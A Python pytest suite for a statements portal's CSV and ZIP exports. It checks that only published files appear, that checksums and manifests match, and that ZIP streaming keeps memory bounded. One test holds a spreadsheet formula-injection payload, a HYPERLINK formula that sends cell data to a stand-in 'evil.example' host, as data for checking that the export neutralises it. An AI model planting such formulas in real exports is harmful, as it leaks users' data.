"""Bulk exports of a session: the CSV of published files and the ZIP with its manifest.

Only files of published versions of published statements appear; both are streamed, and
the ZIP's memory does not grow with its size.
"""

from __future__ import annotations

import csv
import hashlib
import io
import os
import tracemalloc
import uuid
import zipfile
from datetime import timedelta
from urllib.parse import urlsplit

import pytest
import sqlalchemy as sa

from portal import workflow
from portal.enums import FileRole, Language, Role, StatementStatus
from portal.exports import COLUMNS, MANIFEST_COLUMNS, MANIFEST_NAME
from portal.extensions import db
from portal.models import Statement, StatementFile, StoredFile, User, utcnow
from portal.storage import get_store
from tests import factories

S = StatementStatus
SESSION = "human-rights-all-migrants"
CSV_URL = f"/sessions/{SESSION}/statements.csv"
ZIP_URL = f"/sessions/{SESSION}/documents.zip"
PUBLISHED = "Statement of Mexico on detention, published"
FRENCH = factories.docx_bytes("Déclaration du Mexique sur la détention")
ANNEX = "Annexe : protection consulaire des migrants — « données ».\n".encode()
CORRECTION = factories.pdf_bytes("A correction awaiting review")
HIDDEN = {
    S.SUBMITTED: "Hidden: awaiting review",
    S.REJECTED: "Hidden: rejected",
    S.WITHDRAWN: "Hidden: withdrawn",
    S.UNPUBLISHED: "Hidden: unpublished",
}
EMBARGOED = "Hidden: approved under embargo"
MB = 1024 * 1024


@pytest.fixture
def app_config() -> dict[str, object]:
    return {"PORTAL_MAX_UPLOAD_BYTES": 4 * MB, "MAX_CONTENT_LENGTH": 9 * MB}


@pytest.fixture
def record(app) -> dict[str, object]:
    """One published statement (original, French translation, annex) with a correction awaiting
    review, and one statement in each state the public must not see."""
    with app.app_context():
        people = factories.make_people()
        submitter, moderator = people["submitter"], people["moderator"]
        published = factories.make_statement(submitter, title=PUBLISHED)
        factories.add_version(published, submitter, FRENCH, "declaration.docx", Language.FRENCH, FileRole.TRANSLATION, max_bytes=4 * MB)
        factories.add_version(published, submitter, ANNEX, "annexe.txt", Language.FRENCH, FileRole.ANNEX, max_bytes=4 * MB)
        workflow.apply(published, "approve", actor=moderator)
        factories.add_version(published, submitter, CORRECTION, "corrected.pdf", Language.ENGLISH, FileRole.ORIGINAL, max_bytes=4 * MB)
        assert published.pending_correction is not None
        hidden = [factories.make_statement(submitter, title=title, status=status, moderator=moderator) for status, title in HIDDEN.items()]
        embargoed = factories.make_statement(submitter, title=EMBARGOED)
        workflow.apply(embargoed, "approve", actor=moderator, publish_at=utcnow() + timedelta(days=1))
        hidden.append(embargoed)
        db.session.commit()
        store = get_store()
        files = {
            f.role: (f.id, store.path(f.stored.storage_key).read_bytes(), f.stored)
            for f in published.published_version.files
        }
        return {
            "public_id": published.public_id,
            "files": {role: (file_id, data, stored.sha256, stored.original_name) for role, (file_id, data, stored) in files.items()},
            "hidden_ids": [s.public_id for s in hidden],
            "hidden_sha256": [f.stored.sha256 for s in hidden for v in s.versions for f in v.files]
            + [f.stored.sha256 for f in published.pending_correction.files if f.role is FileRole.ORIGINAL],
        }


def _csv_rows(body: bytes) -> list[dict[str, str]]:
    assert body.startswith(b"\xef\xbb\xbf")  # a BOM, for Excel
    reader = csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline=""))
    assert tuple(reader.fieldnames or ()) in (COLUMNS, MANIFEST_COLUMNS)
    return list(reader)


def _assert_nothing_hidden(body: bytes, record: dict[str, object]) -> None:
    for public_id in record["hidden_ids"]:
        assert public_id.encode() not in body
    for title in [*HIDDEN.values(), EMBARGOED]:
        assert title.encode() not in body
    for sha in record["hidden_sha256"]:
        assert sha.encode() not in body
    assert CORRECTION not in body


def test_csv_lists_the_published_files_with_urls_and_checksums(app, client, record):
    response = client.get(CSV_URL)

    assert response.status_code == 200
    assert response.is_streamed
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == 'attachment; filename="session-1-human-rights-all-migrants-statements.csv"'
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    body = response.get_data()
    _assert_nothing_hidden(body, record)
    rows = _csv_rows(body)
    ref = record["public_id"]
    files = record["files"]
    assert [(r["public_id"], r["file_role"], r["file_language"], r["file_name"], r["content_type"]) for r in rows] == [
        (ref, "original", "en", "statement.pdf", "application/pdf"),
        (ref, "translation", "fr", "declaration.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        (ref, "annex", "fr", "annexe.txt", "text/plain"),
    ]
    first = rows[0]
    assert {k: first[k] for k in ("title", "organisation", "organisation_kind", "session_number", "areas", "panel", "kind", "language", "delivered_on", "corrected_at", "on_behalf_of", "cosignatories")} == {
        "title": PUBLISHED,
        "organisation": "Mexico",
        "organisation_kind": "member_state",
        "session_number": "1",
        "areas": "d",
        "panel": "",
        "kind": "delivered",
        "language": "en",
        "delivered_on": "2017-05-08",
        "corrected_at": "",
        "on_behalf_of": "",
        "cosignatories": "",
    }
    assert first["published_at"].endswith("+00:00")
    for row, role in zip(rows, (FileRole.ORIGINAL, FileRole.TRANSLATION, FileRole.ANNEX), strict=True):
        file_id, data, sha256, _ = files[role]
        assert row["sha256"] == sha256 == hashlib.sha256(data).hexdigest()
        assert row["size"] == str(len(data))
        assert row["statement_url"] == f"http://localhost/statements/{ref}"
        assert row["file_url"] == f"http://localhost/statements/{ref}/files/{file_id}"
        download = client.get(urlsplit(row["file_url"]).path)
        assert download.status_code == 200
        assert download.get_data() == data
        download.close()


def test_zip_holds_the_published_files_byte_for_byte_and_a_manifest(app, client, record):
    response = client.get(ZIP_URL)

    assert response.status_code == 200
    assert response.is_streamed
    assert response.mimetype == "application/zip"
    assert response.headers["Content-Disposition"] == 'attachment; filename="session-1-human-rights-all-migrants-documents.zip"'
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    body = response.get_data()
    _assert_nothing_hidden(body, record)
    ref = record["public_id"]
    files = record["files"]
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        assert archive.testzip() is None
        assert archive.namelist() == [
            f"{ref}/original-en.pdf",
            f"{ref}/translation-fr.docx",
            f"{ref}/annex-fr.txt",
            "manifest.csv",
        ]
        assert archive.read(f"{ref}/original-en.pdf") == files[FileRole.ORIGINAL][1]
        assert archive.read(f"{ref}/translation-fr.docx") == files[FileRole.TRANSLATION][1]
        assert archive.read(f"{ref}/annex-fr.txt") == files[FileRole.ANNEX][1]
        manifest = _csv_rows(archive.read("manifest.csv"))
        entries = {name: archive.read(name) for name in archive.namelist() if name != "manifest.csv"}
    assert [r["path"] for r in manifest] == list(entries)
    for row in manifest:
        data = entries[row["path"]]
        assert row["sha256"] == hashlib.sha256(data).hexdigest()
        assert row["size"] == str(len(data))
    # The manifest carries the CSV's rows, plus the paths.
    csv_rows = _csv_rows(client.get(CSV_URL).get_data())
    assert [{k: r[k] for k in COLUMNS} for r in manifest] == csv_rows


def test_correction_replaces_the_files_once_approved(app, client, record):
    with app.app_context():
        statement = db.session.scalar(sa.select(Statement).where(Statement.public_id == record["public_id"]))
        moderator = db.session.scalar(sa.select(User).where(User.role == Role.MODERATOR))
        workflow.apply(statement, "approve_correction", actor=moderator)
        db.session.commit()

    rows = _csv_rows(client.get(CSV_URL).get_data())
    body = client.get(ZIP_URL).get_data()

    correction_sha = hashlib.sha256(CORRECTION).hexdigest()
    assert [r["sha256"] for r in rows if r["file_role"] == "original"] == [correction_sha]
    assert rows[0]["corrected_at"] != ""
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        assert archive.read(f"{record['public_id']}/original-en.pdf") == CORRECTION


def test_session_without_published_statements_gives_a_header_and_an_empty_manifest(app, client, record):
    rows = _csv_rows(client.get("/sessions/drivers-migration/statements.csv").get_data())
    body = client.get("/sessions/drivers-migration/documents.zip").get_data()

    assert rows == []
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        assert archive.namelist() == ["manifest.csv"]
        assert _csv_rows(archive.read("manifest.csv")) == []


def test_csv_cells_that_a_spreadsheet_would_read_as_formulas_begin_with_an_apostrophe(app, client):
    title = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    with app.app_context():
        people = factories.make_people()
        factories.make_statement(
            people["submitter"], title=title, filename="@SUM(1+1).pdf", status=S.APPROVED, moderator=people["moderator"]
        )
        factories.make_statement(people["submitter"], title="Plain - with a dash inside", status=S.APPROVED, moderator=people["moderator"])
        db.session.commit()

    rows = _csv_rows(client.get(CSV_URL).get_data())
    with zipfile.ZipFile(io.BytesIO(client.get(ZIP_URL).get_data())) as archive:
        manifest = _csv_rows(archive.read(MANIFEST_NAME))

    for listing in (rows, manifest):
        by_title = {r["title"]: r for r in listing}
        assert set(by_title) == {"'" + title, "Plain - with a dash inside"}
        assert by_title["'" + title]["file_name"] == "'@SUM(1+1).pdf"
        assert by_title["Plain - with a dash inside"]["file_name"] == "statement.pdf"
    # The API keeps the text as submitted.
    api = client.get("/api/v1/statements").get_json()
    assert title in {s["title"] for s in api["data"]}


@pytest.mark.parametrize("url", ["/sessions/no-such-session/statements.csv", "/sessions/no-such-session/documents.zip"])
def test_unknown_session_is_not_found(client, url):
    assert client.get(url).status_code == 404


def test_session_page_links_the_exports(app, client, record):
    html = client.get(f"/sessions/{SESSION}").get_data(as_text=True)

    assert f'href="{CSV_URL}"' in html
    assert f'href="{ZIP_URL}"' in html


# --- memory --------------------------------------------------------------------------------------

FILES, FILE_SIZE = 20, 2 * MB


def _add_big_files(statement: Statement) -> None:
    """Write FILES annexes of FILE_SIZE random bytes straight into the store, in pieces, and list
    them on the statement's published version."""
    store = get_store()
    version = statement.published_version
    for i in range(FILES):
        key = uuid.uuid4().hex
        path = store.path(key)
        path.parent.mkdir(parents=True, exist_ok=True)
        digest = hashlib.sha256()
        with path.open("wb") as out:
            for _ in range(FILE_SIZE // (256 * 1024)):
                piece = os.urandom(256 * 1024)
                digest.update(piece)
                out.write(piece)
        stored = StoredFile(
            storage_key=key,
            original_name=f"annex-{i}.pdf",
            content_type="application/pdf",
            size=FILE_SIZE,
            sha256=digest.hexdigest(),
        )
        version.files.append(StatementFile(stored=stored, language=Language.ENGLISH, role=FileRole.ANNEX, position=10 + i))
    db.session.flush()


def test_zip_streams_in_memory_that_does_not_grow_with_the_archive(app, client, tmp_path):
    with app.app_context():
        people = factories.make_people()
        statement = factories.make_statement(people["submitter"], title=PUBLISHED, status=S.APPROVED, moderator=people["moderator"])
        _add_big_files(statement)
        db.session.commit()
        public_id = statement.public_id
    archive_size = FILES * FILE_SIZE
    out = tmp_path / "export.zip"

    tracemalloc.start()
    try:
        response = client.get(ZIP_URL)
        assert response.is_streamed
        total = 0
        with out.open("wb") as sink:
            for chunk in response.response:  # one piece at a time, none kept
                total += len(chunk)
                sink.write(chunk)
        response.close()
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    print(f"\nZIP of {total / MB:.1f} MB streamed with a traced peak of {peak / MB:.2f} MB")
    assert total > archive_size
    assert peak < 10 * MB
    with zipfile.ZipFile(out) as archive:
        assert archive.testzip() is None
        names = archive.namelist()
        assert len(names) == 1 + FILES + 1  # the original, the annexes, the manifest
        assert names[1:3] == [f"{public_id}/annex-en.pdf", f"{public_id}/annex-en-2.pdf"]
        manifest = _csv_rows(archive.read("manifest.csv"))
        assert [r["path"] for r in manifest] == names[:-1]
        assert all(archive.getinfo(r["path"]).file_size == int(r["size"]) for r in manifest)
